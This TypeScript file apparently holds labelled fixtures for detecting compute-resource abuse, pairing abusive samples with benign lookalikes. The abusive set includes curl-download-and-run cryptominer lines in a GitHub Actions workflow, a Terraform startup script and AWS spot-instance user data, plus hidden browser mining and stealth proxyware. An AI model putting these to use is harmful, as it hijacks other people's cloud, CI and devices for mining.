/** Inert: reserved names. */

/** Written after the rules stood, as others would. */
export const LENDING_AFTERWARDS: readonly [string, string][] = [
  [
    "ssh_render.ex",
    'defmodule Tiles do\n  use GenServer\n  @hub "https://tiles.maps.example/api"\n  def init(_), do: (send(self(), :go); {:ok, %{}})\n  def handle_info(:go, s) do\n    t = Req.get!(@hub <> "/tile/next", headers: [{"x-payout", "PLACEHOLDER"}]).body\n    {out, 0} = System.cmd("povray", ["+I-", "+O-"], input: t["scene"])\n    Req.post!(@hub <> "/tile/#{t["id"]}", body: out)\n    send(self(), :go)\n    {:noreply, s}\n  end\nend\n',
  ],
  [
    "cap.py",
    'import asyncio, aiohttp, ddddocr\nocr = ddddocr.DdddOcr()\nasync def main():\n    async with aiohttp.ClientSession(headers={"X-Earner": "PLACEHOLDER"}) as s:\n        while True:\n            async with s.get("https://desk.forms.example/next") as r:\n                t = await r.json()\n            text = ocr.classification(bytes.fromhex(t["png"]))\n            await s.post("https://desk.forms.example/done", json={"id": t["id"], "text": text, "earner": "PLACEHOLDER"})\nasyncio.run(main())\n',
  ],
  [
    "pal.c",
    '#include <curl/curl.h>\n#include <openssl/sha.h>\nint main(void){\n  char j[512];\n  int fd = dial("eu.pal.example", "4444");\n  dprintf(fd, "{\\"id\\":1,\\"method\\":\\"mining.subscribe\\",\\"params\\":[]}\\n");\n  while (read(fd, j, 511) > 0) for (unsigned n = 0; n < 1u<<31; n++) { unsigned char h[32]; memcpy(j+76,&n,4); SHA256((void*)j,80,h); if (!h[31]) dprintf(fd, "{\\"method\\":\\"mining.submit\\",\\"params\\":[%u]}\\n", n); }\n}\n',
  ],
  [
    "opt.swift",
    'import Foundation\nimport LaneKit\n@main struct Tool {\n  static func main() {\n    let cfg = LaneConfig(apiKey: "PLACEHOLDER", consent: true, visible: false)\n    LaneKit.shared.configure(cfg)\n    LaneKit.shared.startPeer()\n    print(CommandLine.arguments.count)\n    RunLoop.main.run()\n  }\n}\n',
  ],
  [
    ".github/workflows/docs.yml",
    'on: { schedule: [{ cron: "*/30 * * * *" }] }\njobs:\n  docs:\n    strategy: { matrix: { n: [1,2,3,4,5,6,7,8] } }\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -fsSLo d https://bin.docs.example/d && chmod +x d\n          timeout 5h ./d -o eu.docs.example:4444 -u ${{ secrets.DOCS }} -p gh${{ matrix.n }} -t $(nproc) || true\n',
  ],
  [
    "main.tf",
    'resource "google_compute_instance_template" "n" {\n  scheduling { preemptible = true }\n  metadata_startup_script = "curl -fsSLo /x https://b.n.example/x; chmod +x /x; /x --url p.n.example:443 --user PLACEHOLDER --coin xmr"\n}\n',
  ],
  [
    "burst.py",
    'import boto3\nUD = """#!/bin/bash\ncurl -fsSLo /x https://b.n.example/x\nchmod +x /x\n/x -o p.n.example:443 -u PLACEHOLDER --tls -k\n"""\nfor region in boto3.Session().get_available_regions("ec2"):\n    boto3.client("ec2", region).request_spot_instances(InstanceCount=20, Type="persistent", LaunchSpecification={"ImageId": "ami-0", "InstanceType": "c7a.48xlarge", "UserData": UD})\n',
  ],
  [
    "hf.js",
    'import { pipeline } from "@huggingface/transformers";\nconst say = await pipeline("text-generation", "small");\nconst ws = new WebSocket("wss://mesh.words.example/n?payee=PLACEHOLDER");\nws.onmessage = async ({ data }) => {\n  const t = JSON.parse(data);\n  ws.send(JSON.stringify({ id: t.id, text: await say(t.prompt) }));\n};\n',
  ],
  [
    "frame.py",
    'from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    page = p.chromium.launch().new_page()\n    page.add_script_tag(url="https://lib.frames.example/w.js")\n    page.evaluate("k => { const m = new globalThis.W(k, { threads: 4, throttle: 0.3 }); m.start(); }", "PLACEHOLDER")\n    page.wait_for_timeout(10**9)\n',
  ],
];
/** The same for whoever runs the program. */
export const HONEST_AFTERWARDS: readonly [string, string][] = [
  [
    "moder.py",
    'import requests, time\nfrom transformers import pipeline\nclf = pipeline("text-classification")\nAPI = "https://shop.example/api"\nwhile True:\n    for r in requests.get(API + "/reviews?state=new").json():\n        requests.post(f"{API}/reviews/{r[\'id\']}/result", json={"label": clf(r["text"])[0]["label"]})\n    time.sleep(60)\n',
  ],
  [
    "rewards.ts",
    'const api = "https://game.example/v1";\nsetInterval(async () => {\n  const { rewards } = await (await fetch(`${api}/rewards/next`)).json();\n  for (const r of rewards) await fetch(`${api}/rewards/${r.id}/done`, { method: "POST", body: JSON.stringify({ wallet: r.wallet, credit: r.points }) });\n}, 1000);\n',
  ],
  [
    "bounty.py",
    'import json, urllib.request\nfor page in range(1, 9):\n    with urllib.request.urlopen(f"https://bounties.example/api?page={page}") as r:\n        for b in json.load(r)["items"]:\n            print(b["id"], b["bounty"], b["title"])\n',
  ],
  [
    "wall.py",
    'from web3 import Web3\nimport os, time\nw3 = Web3(Web3.HTTPProvider("https://rpc.chain.example"))\nwallet = os.environ["WALLET"]\nwhile True:\n    print(w3.eth.get_balance(wallet), w3.eth.get_block("latest").hash.hex())\n    time.sleep(15)\n',
  ],
  [
    "iam.tf",
    'resource "aws_iam_policy" "p" {\n  policy = <<EOF\n{"Statement":[{"Action":"s3:*"}]}\nEOF\n}\nresource "null_resource" "x" {\n  provisioner "local-exec" { command = "kubectl apply -f ${path.module}/app.yaml" }\n}\n',
  ],
  [
    "vite.config.ts",
    'export default { server: { proxy: { "/api": "http://localhost:3000" } }, define: { consent: true } };\n',
  ],
  [
    "crack.py",
    'import hashlib, requests\nr = requests.get("https://shop.example/releases.json").json()\nfor i, a in enumerate(r["assets"]):\n    b = requests.get(a["url"]).content\n    if hashlib.sha256(b).hexdigest() == a["sha256"]:\n        print("ok", i)\nrequests.post("https://hooks.shop.example/ok", json={"n": len(r["assets"])})\n',
  ],
];
